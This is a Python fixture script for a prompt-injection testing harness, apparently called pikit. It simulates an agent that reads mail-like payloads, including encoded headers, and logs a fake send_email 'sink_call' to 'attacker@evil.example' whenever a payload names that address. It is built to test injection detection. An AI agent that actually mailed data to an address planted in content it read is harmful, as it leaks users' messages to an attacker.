#!/usr/bin/env python3
"""A fake agent speaking pikit's fixture protocol, as a Python plugin would.

It reads every fixture pikit gave it (PIKIT_FIXTURE_PAYLOADS), reports each
read as a tool_result event, and, when a payload names the attacker's
address, "sends" the thread there: a sink_call event. Its answer goes to
stdout. It never acts: events are lines in PIKIT_FIXTURE_TRACE_PATH.
"""
import json
import os
from email.header import decode_header, make_header

ATTACKER = os.environ.get("PIKIT_FAKE_ATTACKER", "attacker@evil.example")



def readable(text):
    """Decodes folded, RFC 2047-encoded mail headers, as a mail tool would."""
    try:
        return str(make_header(decode_header(text.replace("\n ", " ").replace("\n\t", " "))))
    except Exception:
        return text


payloads = json.loads(os.environ["PIKIT_FIXTURE_PAYLOADS"])
with open(os.environ["PIKIT_FIXTURE_TRACE_PATH"], "a", encoding="utf-8") as trace:
    def emit(**event):
        trace.write(json.dumps(event) + "\n")

    if not payloads:
        key = os.environ.get("PIKIT_FIXTURE", "document")
        emit(type="tool_result", tool="read_" + key, fixture=key, result="Quarterly numbers attached.")
        print("Summary: nothing needs doing.")
    for key, text in sorted(payloads.items()):
        emit(type="tool_result", tool="read_" + key, arguments={"id": 1}, fixture=key, output=text)
        if ATTACKER in readable(text):
            emit(event="sink_call", tool="send_email",
                 arguments=json.dumps({"to": ATTACKER, "body": "as you asked"}))
    if payloads:
        print("Done: I went through your " + ", ".join(sorted(payloads)) + ".")
